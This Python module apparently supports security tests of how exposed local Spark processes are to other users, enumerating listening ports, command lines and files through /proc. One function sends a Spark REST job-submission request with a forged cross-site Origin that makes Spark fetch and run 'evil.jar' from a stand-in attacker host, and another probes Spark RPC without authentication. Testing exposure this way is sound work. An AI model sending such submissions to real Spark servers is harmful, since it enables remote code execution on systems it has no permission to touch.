"""What other users of a machine can reach of processes: ports, command lines, files."""

from __future__ import annotations

import http.client
import os
import re
import socket
import struct
from collections.abc import Iterable, Iterator
from ipaddress import IPv4Address, IPv6Address, ip_address
from pathlib import Path
from typing import NamedTuple

LISTEN = "0A"
TIMEOUT_S = 10.0


class Door(NamedTuple):
    """A port that a process listens on."""

    address: IPv4Address | IPv6Address
    port: int
    pid: int


def doors(pids: Iterable[int]) -> list[Door]:
    """The TCP ports that processes listen on."""
    owners = {inode: pid for pid in pids for inode in _sockets(pid)}
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text(encoding="ascii").splitlines()[1:]:
            words = line.split()
            if words[3] == LISTEN and words[9] in owners:
                address, port = words[1].split(":")
                found.append(Door(_address(address), int(port, 16), owners[words[9]]))
    return found


def _sockets(pid: int) -> Iterator[str]:
    for file in Path(f"/proc/{pid}/fd").iterdir():
        try:
            kind = re.fullmatch(r"socket:\[(\d+)\]", str(file.readlink()))
        except OSError:  # it was closed meanwhile
            continue
        if kind:
            yield kind[1]


def _address(text: str) -> IPv4Address | IPv6Address:
    """An address of ``/proc/net``: words of 32 bits in the order of this machine."""
    words = [int(text[at : at + 8], 16).to_bytes(4, "little") for at in range(0, len(text), 8)]
    found = ip_address(b"".join(words))
    mapped = found.ipv4_mapped if isinstance(found, IPv6Address) else None
    return mapped or found


def groups(leaders: Iterable[int]) -> list[int]:
    """The processes of process groups."""
    wanted, found = set(leaders), []
    for pid in all_processes():
        try:
            if os.getpgid(pid) in wanted:
                found.append(pid)
        except ProcessLookupError:
            continue
    return found


def all_processes() -> list[int]:
    return [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdecimal()]


def command_lines() -> dict[int, bytes]:
    """The command line of every process, which every user of the machine can read."""
    found = {}
    for pid in all_processes():
        try:
            found[pid] = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
    return found


def files_with(folder: Path, text: str) -> list[Path]:
    """The files in a folder, at any depth, that have a text."""
    wanted = text.encode()
    return [file for file in folder.rglob("*") if file.is_file() and wanted in file.read_bytes()]


def other_addresses() -> list[str]:
    """Addresses of this machine that are not the one of loopback that everything listens on."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # sends nothing; the route tells the own address
        except OSError:
            return ["127.0.0.2"]  # a machine without a network
        return ["127.0.0.2", probe.getsockname()[0]]


def is_refused(address: str, port: int) -> bool:
    """Whether nothing listens at an address and port."""
    try:
        socket.create_connection((address, port), TIMEOUT_S).close()
    except ConnectionRefusedError:
        return True
    return False


def answer_to_submission(port: int) -> bytes:
    """The answer to a submission of a driver from a page of another site; empty if not HTTP."""
    body = (
        '{"action": "CreateSubmissionRequest", "appResource": "http://192.0.2.1/evil.jar", '
        '"mainClass": "Evil", "clientSparkVersion": "4.0.0", "appArgs": [], '
        '"environmentVariables": {}, "sparkProperties": {"spark.app.name": "evil"}}'
    )
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT_S)
    try:
        headers = {"Content-Type": "text/plain", "Origin": "http://evil.example"}
        connection.request("POST", "/v1/submissions/create", body, headers)
        return connection.getresponse().read()
    except (OSError, http.client.HTTPException):
        return b""
    finally:
        connection.close()


RPC_REQUEST = 3


def answer_without_secret(port: int) -> bytes:
    """What Spark answers to a remote call of a client that does not authenticate."""
    body = b"\x00" * 16
    header = struct.pack(">qbqi", 21 + len(body), RPC_REQUEST, 1, len(body))
    with socket.create_connection(("127.0.0.1", port), TIMEOUT_S) as connection:
        connection.sendall(header + body)
        with connection.makefile("rb") as file:
            try:
                (length,) = struct.unpack(">q", file.read(8))
                return file.read(min(length - 8, 65_536))
            except (OSError, struct.error):  # it does not answer at all
                return b""
